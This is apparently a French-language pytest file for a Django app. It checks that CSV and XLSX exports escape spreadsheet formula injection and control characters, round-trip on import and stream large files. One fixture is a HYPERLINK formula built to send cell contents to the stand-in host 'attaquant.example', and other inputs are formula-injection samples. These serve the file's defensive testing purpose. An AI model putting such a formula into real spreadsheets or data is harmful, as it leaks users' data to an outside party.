"""#19, points 1, 3 et 8 : ce qui sort en CSV et XLSX n'est jamais une formule ni un fichier cassé ; un libellé
n'est jamais lu comme une formule par les graphiques."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from inclusion.echanges import cellule_lue, cellule_sure
from inclusion.models import Lieu
from tests.formations.factories import InscriptionFactory, SessionFormationFactory, ThemeFactory
from tests.inclusion.factories import LieuFactory, utilisateur
from tests.permanences.factories import PassageFactory, PermanenceFactory
from tests.taches import exporter, octets_de, telecharger_le_bilan

FORMULE = '=HYPERLINK("http://attaquant.example/?d="&A2,"Voir")'


@pytest.mark.parametrize(
    "texte", [FORMULE, "+33 6 00", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=déjà", "''@x", "Marie", "", "l'=égal"]
)
def test_neutraliser_puis_relire_rend_le_texte_d_origine(texte):
    sure = cellule_sure(texte)
    assert not sure.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cellule_lue(sure) == texte


def test_caracteres_de_controle_retires_nombres_intacts():
    assert cellule_sure("Atelier\x07 bureautique\x0b") == "Atelier bureautique"
    assert cellule_sure(-5) == -5 and cellule_sure(datetime.date(2023, 1, 2)) == datetime.date(2023, 1, 2)


def test_une_inscription_formule_reste_du_texte_dans_l_emargement_xlsx(client, db):
    session = SessionFormationFactory(date=datetime.date(2026, 2, 2))
    InscriptionFactory(session=session, nom=FORMULE)
    client.force_login(utilisateur("formation", username="formateur_x"))
    classeur = load_workbook(
        io.BytesIO(client.get(reverse("formations:export_inscriptions", args=[session.pk])).content)
    )
    cellule = classeur.active["A2"]
    assert cellule.data_type == "s" and cellule.value == "'" + FORMULE


def test_un_lieu_formule_et_un_caractere_de_controle_dans_les_xlsx_de_la_coordination(client, coordination):
    lieu = LieuFactory(nom="=1+1 ESC")
    Lieu.objects.filter(pk=lieu.pk).update(nom="=1+1 ESC\x0b")  # comme un import ancien l'aurait laissé
    PassageFactory(permanence=PermanenceFactory(lieu_id=lieu.pk, date=datetime.date(2023, 3, 6)))
    theme = ThemeFactory(nom="Atelier\x07")
    InscriptionFactory(session=SessionFormationFactory(theme=theme, date=datetime.date(2023, 3, 7)))
    client.force_login(coordination)
    for url in (
        reverse("rapports:export_xlsx") + "?debut=2023-01-01&fin=2023-12-31",
        reverse("rapports:export_coop") + "?annee=2023",
    ):
        reponse = exporter(client, url)
        assert reponse.status_code == 200, url
        classeur = load_workbook(io.BytesIO(octets_de(reponse)))
        for feuille in classeur.worksheets:
            for ligne in feuille.iter_rows():
                for cellule in ligne:
                    assert cellule.data_type != "f", (url, feuille.title, cellule.coordinate, cellule.value)


def test_l_export_csv_neutralise_et_l_import_rend_la_valeur(client, coordination, tmp_path):
    from echanges.importeur import importer
    from echanges.sources import SourceFichiers

    LieuFactory(nom="=1+1 ESC", adresse="@adresse")
    client.force_login(coordination)
    with zipfile.ZipFile(io.BytesIO(octets_de(exporter(client, reverse("rapports:export_zip"))))) as archive:
        lieux = archive.read("lieux.csv").decode()
        (tmp_path / "lieux.csv").write_bytes(archive.read("lieux.csv"))
    assert "'=1+1 ESC" in lieux and "'@adresse" in lieux
    Lieu.objects.all().delete()
    importer(SourceFichiers.dossier(tmp_path))
    assert Lieu.objects.get().nom == "=1+1 ESC" and Lieu.objects.get().adresse == "@adresse"


@pytest.mark.parametrize("qui", ["lieu", "theme", "structure"])
def test_un_libelle_en_dollars_ne_fait_pas_tomber_le_bilan_ni_le_tableau_de_bord(client, coordination, qui):
    from tests.inclusion.factories import StructureFactory

    nom = r"Atelier $\foo$"
    jour = datetime.date(2023, 3, 6)
    if qui == "lieu":
        PassageFactory(permanence=PermanenceFactory(lieu=LieuFactory(nom=nom), date=jour))
    elif qui == "theme":
        InscriptionFactory(session=SessionFormationFactory(theme=ThemeFactory(nom=nom), date=jour))
    else:
        InscriptionFactory(
            session=SessionFormationFactory(date=jour), structure=StructureFactory(nom=nom), present="present"
        )
    PassageFactory(
        permanence=PermanenceFactory(date=datetime.date(2024, 3, 4))
    )  # 2023 y est l'année précédente
    client.force_login(coordination)
    for url in (
        reverse("rapports:bilan", args=[2023]),
        reverse("rapports:bilan", args=[2024]),
        reverse("rapports:tableau_de_bord") + "?debut=2023-01-01&fin=2023-12-31",
    ):
        assert client.get(url).status_code == 200, url
    assert octets_de(telecharger_le_bilan(client, 2023)).startswith(b"%PDF")  # rendu par la tâche de fond


def test_un_gros_export_est_servi_en_flux_depuis_le_disque(settings, db, monkeypatch):
    """Au-delà du tampon en mémoire, le document part d'un fichier temporaire, en flux ; en deçà, d'un coup."""
    import zipfile as zf

    from inclusion import documents

    def ecrire(flux):
        with zf.ZipFile(flux, "w") as archive:
            archive.writestr("a.csv", "x" * 5000)

    petit = documents.reponse_fichier(ecrire, "petit.zip", "application/zip")
    assert not petit.streaming and zf.ZipFile(io.BytesIO(petit.content)).read("a.csv") == b"x" * 5000
    monkeypatch.setattr(documents, "TAMPON_MEMOIRE_OCTETS", 100)
    gros = documents.reponse_fichier(ecrire, "gros.zip", "application/zip")
    assert gros.streaming and 'filename="gros.zip"' in gros["Content-Disposition"]
    corps = b"".join(gros.streaming_content)
    assert zf.ZipFile(io.BytesIO(corps)).read("a.csv") == b"x" * 5000


def test_classeur_en_ecriture_seule_garde_l_en_tete_en_gras_et_neutralise_les_formules():
    from openpyxl import load_workbook

    from inclusion.documents import classeur_xlsx

    contenu = classeur_xlsx({"Feuille": (["nom", "valeur"], [["=1+1", 3], ["ok", None]])})
    feuille = load_workbook(io.BytesIO(contenu))["Feuille"]
    assert feuille["A1"].font.bold and feuille["A1"].value == "nom"
    assert feuille["A2"].value == "'=1+1" and feuille["B2"].value == 3
